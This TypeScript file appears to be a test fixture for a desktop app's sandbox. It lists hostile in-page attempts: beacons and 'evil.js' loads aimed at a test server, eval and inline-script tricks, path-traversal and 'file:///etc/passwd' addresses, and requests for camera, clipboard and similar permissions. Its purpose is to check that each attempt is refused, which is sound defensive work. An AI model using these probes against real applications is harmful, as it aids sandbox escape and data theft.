/**
 * What a hostile script inside the page would try. Each is run in the page itself and answers `refused` or what it got;
 * `web` is a server that listens, so that a way out would be found.
 */
export interface Attempt {
  readonly name: string;
  readonly run: (web: string) => Promise<string>;
}

/** Addresses that no kind of request may reach. */
export const FORBIDDEN_ADDRESSES = [
  'WEB/secret',
  'https://example.com/',
  'file:///etc/passwd',
  'app://other/index.html',
  'app://zhupi/../main.cjs',
  'app://zhupi/%2e%2e/main.cjs',
  'app://zhupi/index.html',
  'data:text/plain,x',
] as const;

export const NETWORK_ATTEMPTS: readonly Attempt[] = [
  {
    name: 'WebSocket',
    run: (web) =>
      new Promise((resolve) => {
        try {
          const socket = new WebSocket(web.replace('http', 'ws'));
          socket.onopen = () => resolve('opened');
          socket.onerror = () => resolve('refused');
        } catch {
          resolve('refused');
        }
      }),
  },
  {
    name: 'EventSource',
    run: (web) =>
      new Promise((resolve) => {
        const source = new EventSource(web);
        source.onopen = () => resolve('opened');
        source.onerror = () => resolve('refused');
      }),
  },
  {
    name: 'image',
    run: (web) =>
      new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve('loaded');
        image.onerror = () => resolve('refused');
        image.src = `${web}/pixel.png?secret`;
      }),
  },
  {
    name: 'script',
    run: (web) =>
      new Promise((resolve) => {
        const script = document.createElement('script');
        script.onload = () => resolve('loaded');
        script.onerror = () => resolve('refused');
        script.src = `${web}/evil.js`;
        document.head.append(script);
      }),
  },
  {
    name: 'style sheet',
    run: (web) =>
      new Promise((resolve) => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.onload = () => resolve('loaded');
        link.onerror = () => resolve('refused');
        link.href = `${web}/evil.css`;
        document.head.append(link);
      }),
  },
  {
    name: 'font',
    run: (web) =>
      new FontFace('evil', `url(${web}/evil.woff2)`).load().then(
        () => 'loaded',
        () => 'refused',
      ),
  },
  {
    name: 'worker',
    run: (web) =>
      new Promise((resolve) => {
        try {
          const worker = new Worker(`${web}/evil.js`);
          worker.onmessage = () => resolve('ran');
          worker.onerror = () => resolve('refused');
        } catch {
          resolve('refused');
        }
      }),
  },
  {
    name: 'import()',
    run: (web) =>
      import(/* @vite-ignore */ `${web}/evil.js`).then(
        () => 'loaded',
        () => 'refused',
      ),
  },
  {
    name: 'service worker',
    run: async () => {
      if (!('serviceWorker' in navigator)) return 'refused';
      return navigator.serviceWorker.register('/assets/worker.js').then(
        () => 'registered',
        () => 'refused',
      );
    },
  },
];

/** Ways to run or load what is not the program's own. */
export const CODE_ATTEMPTS: readonly Attempt[] = [
  {
    name: 'eval',
    run: async () => {
      try {
        // eslint-disable-next-line no-eval -- this is the attempt
        return `ran: ${String(eval('1 + 1'))}`;
      } catch {
        return 'refused';
      }
    },
  },
  {
    name: 'new Function',
    run: async () => {
      try {
        // eslint-disable-next-line no-new-func -- this is the attempt
        return `ran: ${String(new Function('return 2')())}`;
      } catch {
        return 'refused';
      }
    },
  },
  {
    name: 'setTimeout with a string',
    run: async () => {
      const marked = globalThis as unknown as { evil?: boolean };

      setTimeout('globalThis.evil = true', 0);
      await new Promise((resolve) => setTimeout(resolve, 50));
      return marked.evil === true ? 'ran' : 'refused';
    },
  },
  {
    name: 'inline script',
    run: async () => {
      const marked = globalThis as unknown as { evil?: boolean };
      const script = document.createElement('script');
      script.textContent = 'globalThis.evil = true';
      document.head.append(script);
      return marked.evil === true ? 'ran' : 'refused';
    },
  },
  {
    name: 'event handler attribute',
    run: async () => {
      const marked = globalThis as unknown as { evil?: boolean };
      const button = document.createElement('button');
      button.setAttribute('onclick', 'globalThis.evil = true');
      document.body.append(button);
      button.click();
      button.remove();
      return marked.evil === true ? 'ran' : 'refused';
    },
  },
  {
    name: 'javascript: link',
    run: async () => {
      const marked = globalThis as unknown as { evil?: boolean };
      const link = document.createElement('a');
      link.href = 'javascript:globalThis.evil=true';
      document.body.append(link);
      link.click();
      await new Promise((resolve) => setTimeout(resolve, 50));
      link.remove();
      return marked.evil === true ? 'ran' : 'refused';
    },
  },
  {
    name: 'inline style element without the nonce',
    run: async () => {
      const style = document.createElement('style');
      style.textContent = 'body { outline: 7px solid rgb(1, 2, 3) }';
      document.head.append(style);
      const seen = getComputedStyle(document.body).outlineColor;
      style.remove();
      return seen === 'rgb(1, 2, 3)' ? 'applied' : 'refused';
    },
  },
  {
    name: 'inline style attribute',
    run: async () => {
      const box = document.createElement('div');
      document.body.append(box);
      box.setAttribute('style', 'color: rgb(1, 2, 3)');
      const seen = getComputedStyle(box).color;
      box.remove();
      return seen === 'rgb(1, 2, 3)' ? 'applied' : 'refused';
    },
  },
  {
    name: 'base element',
    run: async () => {
      const base = document.createElement('base');
      base.href = 'https://example.com/';
      document.head.append(base);
      const uri = document.baseURI;
      base.remove();
      return uri.startsWith('app://zhupi/') ? 'refused' : uri;
    },
  },
  {
    name: 'Node in the page',
    run: async () => {
      const names = [
        'require',
        'process',
        'module',
        'Buffer',
        'global',
        '__dirname',
        'ipcRenderer',
        'electron',
      ];
      const found = names.filter((name) => name in globalThis);
      return found.length === 0 ? 'refused' : found.join(' ');
    },
  },
  {
    name: 'a wider door than the methods of the contract',
    run: async () => {
      const { zhupi } = globalThis as unknown as { zhupi: Readonly<Record<string, unknown>> };
      const odd = Object.entries(zhupi).filter(([, value]) => typeof value !== 'function');
      return odd.length === 0 && Object.isFrozen(zhupi) ? 'refused' : odd.map(([name]) => name).join(' ');
    },
  },
];

/** What the page may ask the system for. */
export const PERMISSION_ATTEMPTS: readonly Attempt[] = [
  {
    name: 'geolocation',
    run: () =>
      new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve('granted'),
          () => resolve('refused'),
          { timeout: 3000 },
        ),
      ),
  },
  {
    name: 'notifications',
    run: async () => ((await Notification.requestPermission()) === 'granted' ? 'granted' : 'refused'),
  },
  {
    name: 'camera',
    run: () =>
      navigator.mediaDevices.getUserMedia({ video: true }).then(
        () => 'granted',
        () => 'refused',
      ),
  },
  {
    name: 'microphone',
    run: () =>
      navigator.mediaDevices.getUserMedia({ audio: true }).then(
        () => 'granted',
        () => 'refused',
      ),
  },
  {
    name: 'screen',
    run: () =>
      navigator.mediaDevices.getDisplayMedia({ video: true }).then(
        () => 'granted',
        () => 'refused',
      ),
  },
  {
    name: 'clipboard reading',
    run: () =>
      navigator.clipboard.readText().then(
        () => 'granted',
        () => 'refused',
      ),
  },
  {
    name: 'MIDI',
    run: () =>
      navigator.requestMIDIAccess({ sysex: true }).then(
        () => 'granted',
        () => 'refused',
      ),
  },
  {
    name: 'local fonts',
    run: async () => {
      const { queryLocalFonts } = globalThis as unknown as {
        queryLocalFonts?: () => Promise<readonly unknown[]>;
      };
      if (queryLocalFonts === undefined) return 'refused';
      return queryLocalFonts().then(
        (fonts) => (fonts.length === 0 ? 'refused' : 'granted'),
        () => 'refused',
      );
    },
  },
  {
    name: 'a new window',
    run: async (web) =>
      window.open(web) === null && window.open('about:blank') === null ? 'refused' : 'opened',
  },
];
